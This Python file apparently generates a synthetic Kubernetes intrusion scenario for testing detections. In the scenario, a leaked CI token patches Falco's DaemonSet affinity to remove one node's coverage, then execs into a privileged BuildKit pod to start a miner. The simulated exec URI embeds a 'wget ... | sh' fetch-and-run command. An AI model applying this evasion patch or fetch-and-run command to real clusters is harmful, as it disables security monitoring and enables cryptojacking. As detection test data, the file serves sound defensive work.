# ruff: noqa: E501  (message templates stay on one line, as they appear in the files)
"""falco-disabled: a leaked CI token moves Falco off one node, then mines in a pod there."""

from __future__ import annotations

from obskit.datasets import _formats as F
from obskit.datasets._cluster import (
    MI,
    RBAC,
    App,
    add_apps,
    add_falco,
    add_nodes,
    add_system,
    default_deny,
    human_request,
    k8s_object,
    make_truth,
    malformed_cri,
    pod_security,
    populate_all,
)
from obskit.datasets._lifecycle import lifecycle_records
from obskit.datasets._world import NS, CSpec, Pod, Workload, World

_ATTACKER_IP = "203.0.113.45"
_ATTACKER_UA = "kubectl/v1.30.1 (linux/amd64) kubernetes/6911225"
_CI_UA = "kubectl/v1.29.1 (linux/amd64) kubernetes/bc401b9"
_DEPLOYER_REASON = 'RBAC: allowed by ClusterRoleBinding "ci-deployer" of ClusterRole "ci-deployer" to ServiceAccount "deployer/ci"'


def falco_disabled(seed: int, scale: float) -> tuple[World, dict]:
    """The CI deployer's leaked token moves Falco off one node, then mines in a pod there."""
    w = World("falco-disabled", "prod-us-2", seed, scale, "2024-11-06T02:00:00Z", 2.0)
    add_nodes(w, "eks", 4)
    add_system(w)
    for ns in ("web", "api", "ci"):
        w.add_namespace(ns, 150)
    falco = add_falco(w, "0.38.1", 60, update_strategy={"type": "OnDelete"})
    _falco_disabled_apps(w, scale)
    populate_all(w)
    w.base_signals()
    ci = w.sa_user("ci", "deployer", w.uid())
    _ci_deploys(w, ci)
    victim = next(p for p in w.pods if p.wl.name == "buildkitd")
    node = victim.node
    t_patch, t_gone = _blind_falco(w, ci, falco, node, w.at(38.0))
    # Falco's routine alerts: on the node before it goes blind, and on the others throughout
    others = [n for n in w.nodes if n is not node]
    for minute, where in zip(
        (8.0, 48.0, 57.0, 83.0, 104.0), [node, *others, others[0]], strict=True
    ):
        _benign_falco(w, w.at(minute), where)
    t_exec = _mine(w, ci, victim, t_patch + 4 * 60 * NS)
    human_request(
        w, w.at(71), "sre-ana@example.com", "10.0.200.41", "get", "/api/v1/nodes", "nodes", None
    )
    search = [p for p in w.pods if p.wl.name == "search"]
    malformed_cri(w, search[-1], w.at(88), "truncated")
    lifecycle_records(w)
    _falco_disabled_posture(w)
    det = [
        {
            "id": "audit.security-collector-impaired",
            "subject": ci["username"],
            "pod": None,
            "time": F.ts_s(t_patch),
        },
        {
            "id": "audit.pod-exec-unusual-subject",
            "subject": ci["username"],
            "pod": victim.name,
            "time": F.ts_s(t_exec),
        },
    ]
    truth = make_truth(
        w,
        ns="ci",
        kind="Deployment",
        wl="buildkitd",
        pod=victim.name,
        container="buildkitd",
        node=node["name"],
        level="pod",
        fault_start=t_patch,
        category="intrusion",
        description="With the CI deployer's leaked service-account token, an attacker gives the Falco DaemonSet a node affinity that leaves one node, then execs into the privileged BuildKit pod on that node and starts a miner: no Falco alert names it, the coverage gap and the CPU do.",
        detections=det,
    )
    truth["attacker_ips"] = [_ATTACKER_IP]
    truth["stolen_identity"] = ci["username"]
    truth["coverage_gap"] = {
        "node": node["name"],
        "collector": "falco",
        "start": F.ts_s(t_gone),
        "end": F.ts_s(w.t1),
    }
    return w, truth


def _falco_disabled_apps(w: World, scale: float) -> None:
    """web and api services, and the CI's BuildKit daemon (privileged, as rootful BuildKit is)."""
    reps = lambda k: max(1, round(k * scale))  # noqa: E731
    web = [
        App(
            name="storefront",
            replicas=reps(3),
            image="registry.example.com/web/storefront:2.40.2",
            port=3000,
            style="json",
            rps=18.0,
            cpu=0.1,
            mem=220 * MI,
        ),
        App(
            name="search",
            replicas=reps(2),
            image="registry.example.com/web/search:5.2.0",
            port=8080,
            style="logfmt",
            rps=9.0,
            cpu=0.15,
            mem=300 * MI,
        ),
    ]
    add_apps(w, "web", web)
    orders = App(
        name="orders",
        replicas=reps(2),
        image="registry.example.com/api/orders:1.9.3",
        port=8080,
        style="java",
        rps=6.0,
        cpu=0.2,
        mem=380 * MI,
    )
    add_apps(w, "api", [orders])
    w.add_workload(
        Workload(
            kind="Deployment",
            name="buildkitd",
            ns="ci",
            replicas=1,
            containers=[
                CSpec(
                    "buildkitd",
                    "docker.io/moby/buildkit:v0.13.2",
                    1234,
                    cpu_req="500m",
                    mem_req="1Gi",
                    privileged=True,
                    readiness=None,
                )
            ],
            created=w.t0 - 41 * 86400 * NS,
            sa="buildkitd",
            style="logfmt",
            log_rate=0.004,
            cpu=0.08,
            mem=600 * MI,
            service=True,
            labels={"app": "buildkitd", "app.kubernetes.io/name": "buildkitd"},
        )
    )


def _ci_deploys(w: World, ci: dict) -> None:
    """The deployer's own use from the CI network: ``kubectl rollout status`` on web's
    Deployments after each pipeline run."""
    for minute in (12.0, 47.0, 96.0):
        for name in ("storefront", "search"):
            w.audit_event(
                w.at(minute),
                user=ci,
                verb="get",
                uri=f"/apis/apps/v1/namespaces/web/deployments/{name}",
                resource="deployments",
                ns="web",
                name=name,
                group="apps",
                ips=["10.0.200.15"],
                ua=_CI_UA,
                reason=_DEPLOYER_REASON,
            )


def _benign_falco(w: World, t: int, node: dict) -> None:
    """A routine Falco alert on ``node``: an app's client library talking to the API server,
    as the default rules flag it."""
    pods = [p for p in w.pods if p.node is node and p.wl.ns in ("web", "api")]
    # a draw may place no app pod on the node: then whichever pod it runs (Falco's own at least)
    pods = pods or [p for p in w.pods if p.node is node]
    pod = pods[int(w.rng.integers(0, len(pods)))]
    c_id = pod.cstates[0].attempts[0].cid[:12]
    container = pod.cstates[0].spec.name
    repo, tag = pod.images[container].rsplit(":", 1)
    port = int(w.rng.integers(32768, 60999))
    conn = f"{pod.ip}:{port}->172.20.0.1:443"
    w.falco_alert(
        t,
        "Contact K8S API Server From Container",
        "Notice",
        f"Unexpected connection to K8s API Server from container (connection={conn} lport=443 rport={port} "
        f"fd_type=ipv4 fd_proto=tcp evt_type=connect user=app user_uid=10001 user_loginuid=-1 process={container} "
        f"proc_exepath=/app/{container} parent=containerd-shim command={container} --config /etc/{container}/config.yaml "
        f"terminal=0 container_id={c_id} container_name={container} container_image_repository={repo} "
        f"container_image_tag={tag} k8s_pod_name={pod.name} k8s_ns_name={pod.wl.ns})",
        {
            "container.id": c_id,
            "container.image.repository": repo,
            "container.image.tag": tag,
            "container.name": container,
            "evt.type": "connect",
            "fd.name": conn,
            "fd.rip": "172.20.0.1",
            "fd.rport": 443,
            "k8s.ns.name": pod.wl.ns,
            "k8s.pod.name": pod.name,
            "proc.cmdline": f"{container} --config /etc/{container}/config.yaml",
            "proc.exepath": f"/app/{container}",
            "proc.name": container,
            "proc.pname": "containerd-shim",
            "user.name": "app",
            "user.uid": 10001,
        },
        ["T1565", "container", "k8s", "maturity_stable", "mitre_discovery", "network"],
        node["name"],
    )


def _node_affinity_without(node: dict) -> dict:
    term = {"key": "kubernetes.io/hostname", "operator": "NotIn", "values": [node["name"]]}
    required = {"nodeSelectorTerms": [{"matchExpressions": [term]}]}
    return {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": required}}


def _blind_falco(w: World, ci: dict, falco: Workload, node: dict, t_patch: int) -> tuple[int, int]:
    """The attacker lists nodes and DaemonSets, then gives Falco a node affinity that leaves
    ``node``; the DaemonSet controller deletes the Falco pod there (OnDelete keeps the others).
    Returns when the patch was made and when the Falco pod was gone."""
    attacker = {"ips": [_ATTACKER_IP], "ua": _ATTACKER_UA, "reason": _DEPLOYER_REASON}
    t_look = t_patch - 2 * 60 * NS
    w.audit_event(
        t_look, user=ci, verb="list", uri="/api/v1/nodes?limit=500", resource="nodes", **attacker
    )
    w.audit_event(
        t_look + 9 * NS,
        user=ci,
        verb="list",
        uri="/apis/apps/v1/namespaces/monitoring/daemonsets?limit=500",
        resource="daemonsets",
        ns="monitoring",
        group="apps",
        **attacker,
    )
    affinity = _node_affinity_without(node)
    w.audit_event(
        t_patch,
        user=ci,
        verb="patch",
        uri="/apis/apps/v1/namespaces/monitoring/daemonsets/falco?fieldManager=kubectl-patch",
        resource="daemonsets",
        ns="monitoring",
        name="falco",
        group="apps",
        level="RequestResponse",
        request_object={"spec": {"template": {"spec": {"affinity": affinity}}}},
        **attacker,
    )
    falco.affinity = affinity
    falco.desired = len(w.nodes) - 1
    falco.generation = 2
    w.add_revision(falco, t_patch + NS)
    pod = next(p for p in w.pods if p.wl is falco and p.node is node)
    t_del = t_patch + int(1.4 * NS)
    w.event(
        "DaemonSet",
        "falco",
        "monitoring",
        falco.uid,
        "SuccessfulDelete",
        f"Deleted pod: {pod.name}",
        t_del,
        comp="daemonset-controller",
        api_version="apps/v1",
    )
    w.audit_event(
        t_del,
        user=w.sa_user("kube-system", "daemon-set-controller", w.uid()),
        verb="delete",
        uri=f"/api/v1/namespaces/monitoring/pods/{pod.name}",
        resource="pods",
        ns="monitoring",
        name=pod.name,
        ips=["10.0.1.5"],
        ua="kube-controller-manager/v1.29.3 (linux/amd64) kubernetes/6813625/system:serviceaccount:kube-system:daemon-set-controller",
        reason='RBAC: allowed by ClusterRoleBinding "system:controller:daemon-set-controller" of ClusterRole "system:controller:daemon-set-controller" to ServiceAccount "daemon-set-controller/kube-system"',
    )
    w.delete_pod(pod, t_del)
    return t_patch, pod.deleted


def _mine(w: World, ci: dict, victim: Pod, t_exec: int) -> int:
    """An exec session into the BuildKit pod that fetches and starts a miner in the background:
    the pod's CPU goes from idle to three cores, its memory up by the miner's dataset; its output goes nowhere the logs see."""
    uri = (
        f"/api/v1/namespaces/ci/pods/{victim.name}/exec?command=%2Fbin%2Fsh&command=-c&command=wget+-qO-+"
        "http%3A%2F%2F198.51.100.77%2Fw.sh+%7C+sh&container=buildkitd&stderr=true&stdout=true"
    )
    aid = w.uid()
    for stage, dt, latency in (("ResponseStarted", 0, 41.0), ("ResponseComplete", 9 * NS, 9000.0)):
        w.audit_event(
            t_exec + dt,
            user=ci,
            verb="create",
            uri=uri,
            resource="pods",
            ns="ci",
            name=victim.name,
            sub="exec",
            code=101,
            ips=[_ATTACKER_IP],
            ua=_ATTACKER_UA,
            stage=stage,
            audit_id=aid,
            latency_ms=latency,
            reason=_DEPLOYER_REASON,
        )
    mining = w.grid * NS >= t_exec + 12 * NS
    victim.cpu = victim.cpu + 3.0 * mining * (1 + w.noise(0.03))
    victim.mem = victim.mem + 2200 * MI * mining  # RandomX's 2 GiB dataset, in fast mode
    return t_exec


def _falco_disabled_posture(w: World) -> None:
    """The deployer's ClusterRole bound cluster-wide, Pod Security labels, web's default deny."""
    deployer = [
        {
            "apiGroups": ["apps"],
            "resources": ["daemonsets", "deployments", "statefulsets"],
            "verbs": ["get", "list", "watch", "create", "patch", "update"],
        },
        {
            "apiGroups": [""],
            "resources": ["pods", "services", "configmaps"],
            "verbs": ["get", "list", "watch", "create", "delete", "patch"],
        },
        {"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]},
        {"apiGroups": [""], "resources": ["nodes"], "verbs": ["get", "list"]},
    ]
    ref = {"apiGroup": RBAC, "kind": "ClusterRole", "name": "ci-deployer"}
    subject = {"kind": "ServiceAccount", "name": "deployer", "namespace": "ci"}
    w.objects["rbac"] = [
        k8s_object(w, f"{RBAC}/v1", "ClusterRole", "ci-deployer", None, rules=deployer),
        k8s_object(
            w,
            f"{RBAC}/v1",
            "ClusterRoleBinding",
            "ci-deployer",
            None,
            roleRef=ref,
            subjects=[subject],
        ),
    ]
    w.objects["networkpolicies"] = [default_deny(w, "web")]
    pod_security(w, "web", enforce="baseline", warn="restricted")
    pod_security(w, "api", enforce="baseline")
    pod_security(w, "ci", enforce="privileged", warn="baseline")
